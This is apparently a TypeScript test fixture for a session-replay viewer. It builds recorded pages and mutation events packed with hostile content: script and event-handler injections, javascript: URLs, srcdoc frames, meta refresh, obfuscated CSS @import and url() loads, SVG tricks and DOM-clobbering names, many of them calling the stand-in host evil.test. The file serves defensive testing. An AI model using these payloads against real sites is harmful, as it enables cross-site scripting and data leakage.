import { change, element, page, snapshot, type TestNode, text } from './events.ts'
import type { TestEvent } from './viewer-page.ts'

/** Recordings of somebody who wants the viewer to run something, or to ask another server for something. */

const EVIL = 'https://evil.test:7777'
const RUN = "document.title='ran';top.document.title='ran';alert(1);fetch('https://evil.test:7777/ran')"

let nextId = 0
const id = () => ++nextId

function el(tag: string, attributes: Record<string, unknown> = {}, children: TestNode[] = [], more = {}) {
  return element(id(), tag, attributes, children, more)
}
const words = (content: string) => text(id(), content)
const svg = (tag: string, attributes: Record<string, unknown> = {}, children: TestNode[] = []) =>
  el(tag, attributes, children, { isSVG: true })
const style = (css: string) => el('style', {}, [words(css)])

/** Elements of a page, by what they try. Each has a text that says that the rest of the page is there. */
export const HOSTILE_NODES: Record<string, () => TestNode[]> = {
  'a script': () => [el('script', { src: `${EVIL}/a.js` }, [words(RUN)]), el('script', {}, [words(RUN)])],
  'a script by another case': () => [
    el('SCRIPT', {}, [words(RUN)]),
    el('ScRiPt', { type: 'module' }, [words(RUN)]),
  ],
  'a script of SVG': () => [
    svg('svg', {}, [svg('script', { 'xlink:href': `${EVIL}/a.js`, href: `${EVIL}/b.js` }, [words(RUN)])]),
  ],
  'a script in a namespace of its own': () => [
    el('svg:script', {}, [words(RUN)]),
    el('html:script', {}, [words(RUN)]),
  ],
  handlers: () => [
    el('img', { src: 'x', onerror: RUN, onload: RUN }),
    el('body', { onload: RUN, onfocus: RUN, onpageshow: RUN }),
    el('details', { open: true, ontoggle: RUN }),
    el('input', { autofocus: true, onfocus: RUN }),
    el('div', {
      onpointerover: RUN,
      ONCLICK: RUN,
      ' onclick': RUN,
      'x\tonclick': RUN,
      onanimationstart: RUN,
      style: 'animation:x 1s',
    }),
    svg('svg', { onload: RUN }, [svg('circle', { r: '10', onbegin: RUN })]),
  ],
  'addresses that run': () => [
    el('a', { href: `javascript:${RUN}`, target: '_top', ping: `${EVIL}/ping` }, [words('link')]),
    el('a', { href: `java\nscript:${RUN}` }, [words('link')]),
    el('form', { action: `javascript:${RUN}` }, [el('button', { formaction: `javascript:${RUN}` })]),
    el('iframe', { src: `javascript:${RUN}` }),
    el('embed', { src: `javascript:${RUN}` }),
    el('object', { data: `data:text/html,<script>${RUN}</script>` }),
    svg('svg', {}, [svg('a', { 'xlink:href': `javascript:${RUN}` }, [svg('text', {}, [words('link')])])]),
  ],
  frames: () => [
    el('iframe', {
      srcdoc: `<script>${RUN}</script><img src="${EVIL}/1.png">`,
      sandbox: 'allow-scripts',
      rr_src: EVIL,
    }),
    el('iframe', { src: `${EVIL}/frame`, name: 'head' }),
    el('frameset', {}, [el('frame', { src: `${EVIL}/frame` })]),
    el('iframe', { src: 'about:srcdoc' }, [words(RUN)]),
    el('portal', { src: `${EVIL}/portal` }),
    el('fencedframe', { src: `${EVIL}/fenced` }),
  ],
  'orders to the browser': () => [
    el('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
    el('meta', { 'HTTP-EQUIV': 'Set-Cookie', content: 'a=b' }),
    el('meta', { name: 'referrer', content: 'unsafe-url' }),
    el('base', { href: `${EVIL}/`, target: '_top' }),
    el('link', { rel: 'stylesheet', href: `${EVIL}/a.css` }),
    el('link', { rel: 'preload', as: 'image', href: `${EVIL}/a.png` }),
    el('link', { rel: 'preconnect', href: EVIL }),
    el('link', { rel: 'dns-prefetch', href: EVIL }),
    el('link', { rel: 'prefetch', href: `${EVIL}/p` }),
    el('link', { rel: 'modulepreload', href: `${EVIL}/m.js` }),
    el('link', { rel: 'icon', href: `${EVIL}/icon.png` }),
    el('link', { rel: 'manifest', href: `${EVIL}/manifest` }),
    el('link', {
      rel: 'stylesheet',
      _cssText: `@import "${EVIL}/import.css"; p{background:url(${EVIL}/bg.png)}`,
    }),
  ],
  media: () => [
    el('img', {
      src: `${EVIL}/a.png`,
      srcset: `${EVIL}/b.png 2x`,
      rr_dataURL: `${EVIL}/c.png`,
      lowsrc: `${EVIL}/d.png`,
    }),
    el('img', { src: '//evil.test:7777/e.png' }),
    el('img', { src: '/replay/view' }),
    el('picture', {}, [el('source', { srcset: `${EVIL}/f.png` }), el('img', { srcset: `${EVIL}/g.png` })]),
    el('video', { src: `${EVIL}/a.mp4`, poster: `${EVIL}/p.png`, autoplay: true, rr_mediaState: 'played' }, [
      el('track', { src: `${EVIL}/t.vtt`, default: true }),
    ]),
    el('audio', { src: `${EVIL}/a.mp3`, autoplay: true }, [el('source', { src: `${EVIL}/b.mp3` })]),
    el('input', { type: 'image', src: `${EVIL}/i.png` }),
    el('table', { background: `${EVIL}/t.png` }),
    el('canvas', { rr_dataURL: `${EVIL}/canvas.png` }),
    el('body', { background: `${EVIL}/body.png` }),
    svg('svg', {}, [
      svg('image', { href: `${EVIL}/s.png`, 'xlink:href': `${EVIL}/x.png` }),
      svg('use', { href: `${EVIL}/sprite.svg#a` }),
      svg('feimage', { href: `${EVIL}/fe.png` }),
      svg('rect', {
        width: '10',
        height: '10',
        fill: `url(${EVIL}/fill.svg#a)`,
        filter: `u\\72l(${EVIL}/filter.svg#a)`,
        'clip-path': `url(${EVIL}/c.svg#a)`,
        'marker-end': `url(${EVIL}/m.svg#a)`,
      }),
      svg('foreignobject', {}, [el('iframe', { srcdoc: `<script>${RUN}</script>` })]),
      svg('animate', { attributeName: 'href', to: `javascript:${RUN}` }),
      svg('set', { attributeName: 'onmouseover', to: RUN }),
    ]),
  ],
  styles: () => [
    style(`@import url(${EVIL}/1.css);`),
    style(`@\\69mport "${EVIL}/2.css";`),
    style(`@/**/import "${EVIL}/3.css";@IMPORT '${EVIL}/4.css' screen;`),
    style(`@font-face{font-family:a;src:url(${EVIL}/a.woff)}body{font-family:a}`),
    style(
      `body{background:url("${EVIL}/5.png"),URL( '${EVIL}/6.png' ),u\\72l(${EVIL}/7.png),\\75\\72\\6c (${EVIL}/8.png)}`,
    ),
    style(
      `h1{background-image:image-set("${EVIL}/9.png" 1x);background:-webkit-image-set(url(${EVIL}/10.png) 1x)}`,
    ),
    style(
      `h1{--a:"${EVIL}/11.png";--b:url(${EVIL}/12.png);background-image:image-set(var(--a) 1x),var(--b)}`,
    ),
    style(`h1::before{content:"/*";background:url(${EVIL}/13.png)}/* " */h1{background:url(${EVIL}/14.png)}`),
    style(`h1{background:url(${EVIL}/15.png`),
    style(`@" " ;h1{background:url(${EVIL}/16.png)}`),
    style(`×url(x) h1{background:url(${EVIL}/17.png)}h1{background:×url(${EVIL}/18.png)}`),
    style(
      `h1{cursor:url(${EVIL}/19.cur),auto;list-style:url(${EVIL}/20.png);border-image:url(${EVIL}/21.png) 1;mask:url(${EVIL}/22.svg#m);filter:url(${EVIL}/23.svg#f)}`,
    ),
    style(
      `@namespace url(${EVIL}/24);@property --u{syntax:"<url>";inherits:true;initial-value:url(${EVIL}/25.png)}h1{background:var(--u)}`,
    ),
    style(
      `h1{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/26.png'/><script>alert(1)</script></svg>")}`,
    ),
    style('h1{background:url("data:text/html,<script>alert(1)</script>")}</style><script>alert(1)</script>'),
    el('p', { style: `background:url(${EVIL}/27.png);background-image:image-set('${EVIL}/28.png' 1x)` }, [
      words('p'),
    ]),
    el('p', {
      style: `behavior:url(${EVIL}/29.htc);-moz-binding:url(${EVIL}/30.xml);width:expression(alert(1))`,
    }),
  ],
  'names that hide parts of the document': () => [
    el('form', { name: 'documentElement', id: 'documentElement' }),
    el('img', { name: 'head', id: 'head' }),
    el('form', { name: 'getElementsByTagName' }),
    el('iframe', { name: 'defaultView' }),
    el('object', { id: 'body', name: 'body' }),
  ],
  'elements that cannot be': () => [
    el('a b', {}),
    el('', {}),
    el('x'.repeat(500), {}),
    el('div', { 'a b': '1', '': '2', '"': '3' }),
    el('input', {}, [words('x')], { isShadowHost: true }),
    el('font-face', {}, [], { isCustom: true }),
    el('X-UP', {}, [words(RUN)], { isCustom: true }),
    { id: id(), type: 4, textContent: ']]><script>alert(1)</script>' },
    { id: id(), type: 5, textContent: '--><script>alert(1)</script>' },
    { id: id(), type: 0, childNodes: [el('html', {}, [el('script', {}, [words(RUN)])])] },
    { id: id(), type: 1, name: 'html><script>alert(1)</script>', publicId: '"', systemId: '"' },
    { id: id(), type: 99 },
    null as unknown as TestNode,
    'x' as unknown as TestNode,
  ],
}

/** The ids of the page stand below those of the hostile elements. */
export function hostilePage(at: number, nodes: () => TestNode[]): TestEvent[] {
  nextId = 1_000
  return snapshot(at, page(nodes(), [element(8, 'h1', {}, [text(9, 'Still here')]), ...nodes()]))
}

/** Changes that come after a harmless page: the nodes, and what only a change can do. */
export function hostileChanges(at: number): TestEvent[] {
  nextId = 100_000
  const add = (parentId: number, node: TestNode, place: Record<string, unknown> = {}) =>
    change(at, { adds: [{ parentId, nextId: null, ...place, node }] })
  const attribute = (target: number, attributes: Record<string, unknown>) =>
    change(at, { attributes: [{ id: target, attributes }] })
  const css = `h1{background:url(${EVIL}/late.png)}`
  return [
    ...Object.values(HOSTILE_NODES).flatMap(nodes =>
      nodes()
        .filter(node => typeof node === 'object' && node !== null)
        .map(node => add(5, node)),
    ),
    // An image, a frame, a link and a style element of the page get other values.
    attribute(20, { src: `${EVIL}/1.png`, onerror: RUN, srcset: `${EVIL}/2.png` }),
    attribute(21, { src: `${EVIL}/frame`, srcdoc: `<script>${RUN}</script>` }),
    attribute(22, { href: `javascript:${RUN}`, onclick: RUN }),
    attribute(23, { rel: 'stylesheet', href: `${EVIL}/a.css`, _cssText: `@import "${EVIL}/b.css"` }),
    attribute(8, { style: { 'background-image': `url(${EVIL}/3.png)`, color: ['red', 'important;x'] } }),
    attribute(8, { style: `background:url(${EVIL}/4.png)`, onclick: RUN, _cssText: css }),
    attribute(24, { 'http-equiv': 'refresh', content: `0;url=${EVIL}` }),
    change(at, { texts: [{ id: 7, value: css }] }),
    // A text that was shown becomes a style sheet: by moving it, by a parent that comes later, by a sibling.
    change(at, { texts: [{ id: 26, value: css }] }),
    add(6, text(26, 'harmless')),
    change(at, {
      adds: [
        { parentId: 90_001, nextId: null, node: text(90_002, css) },
        { parentId: 4, nextId: null, node: element(90_001, 'style') },
      ],
    }),
    add(5, text(90_003, css), { previousId: -1 }),
    change(at, { adds: [{ parentId: 6, previousId: 90_003, nextId: null, node: text(90_004, '') }] }),
    // A node below itself.
    add(5, element(90_010, 'div')),
    add(90_010, element(90_011, 'div')),
    change(at, { adds: [{ parentId: 90_011, nextId: null, node: element(90_010, 'div') }] }),
    {
      type: 3,
      timestamp: at,
      data: {
        source: 8,
        id: 6,
        adds: [
          { rule: css, index: 0 },
          { rule: `@import "${EVIL}/r.css"`, index: 0 },
        ],
        replaceSync: css,
      },
    },
    {
      type: 3,
      timestamp: at,
      data: {
        source: 13,
        id: 6,
        index: [0],
        set: { property: 'background', value: `url(${EVIL}/d.png)`, priority: 'important' },
      },
    },
    {
      type: 3,
      timestamp: at,
      data: { source: 13, id: 6, index: [99, 99], set: { property: 'color', value: 'red' } },
    },
    {
      type: 3,
      timestamp: at,
      data: { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: css, index: 0 }] }] },
    },
    {
      type: 3,
      timestamp: at,
      data: { source: 10, family: 'a', fontSource: `url(${EVIL}/f.woff)`, buffer: false },
    },
    {
      type: 3,
      timestamp: at,
      data: {
        source: 9,
        id: 5,
        type: 0,
        commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${EVIL}/c.png` }] }],
      },
    },
    { type: 3, timestamp: at, data: { source: 7, id: 5, type: 0, src: `${EVIL}/m.mp4` } },
    { type: 3, timestamp: at, data: { source: 2, type: 99, id: 5 } },
    { type: 3, timestamp: at, data: { source: 2, type: 5, id: 22 } },
    { type: 3, timestamp: at, data: { source: 5, id: 22, text: RUN, isChecked: true } },
    {
      type: 3,
      timestamp: at,
      data: { source: 14, ranges: [{ start: 1, startOffset: 9e9, end: 2, endOffset: 1 }] },
    },
    { type: 6, timestamp: at, data: { plugin: 'rrweb/canvas', payload: RUN } },
    { type: 5, timestamp: at, data: { tag: RUN, payload: { html: `<script>${RUN}</script>` } } },
    { type: 3, timestamp: at, data: { source: 0 } },
    { type: 3, timestamp: at, data: { source: 'constructor' } },
    {
      type: 3,
      timestamp: at,
      data: { source: 0, adds: 'x', removes: {}, texts: [null, 1], attributes: [{}] },
    },
    { type: 2, timestamp: at, data: { node: null } },
    { type: 2, timestamp: at, data: { node: { id: 1, type: 0, childNodes: [] } } },
    { type: 4, timestamp: at, data: { href: `javascript:${RUN}`, width: 1e9, height: -1 } },
  ]
}

/** The page that the changes are made to. */
export function harmlessPage(at: number): TestEvent[] {
  return snapshot(
    at,
    page(
      [
        element(6, 'style', {}, [text(7, 'h1{color:#135}')]),
        element(23, 'link', { rel: 'stylesheet' }),
        element(24, 'meta', { name: 'x' }),
      ],
      [
        element(8, 'h1', {}, [text(9, 'Still here')]),
        element(20, 'img', {}),
        element(21, 'iframe', {}),
        element(22, 'a', { href: 'https://shop.test/' }, [text(25, 'link')]),
        element(27, 'p', {}, [text(26, 'harmless')]),
      ],
    ),
  )
}
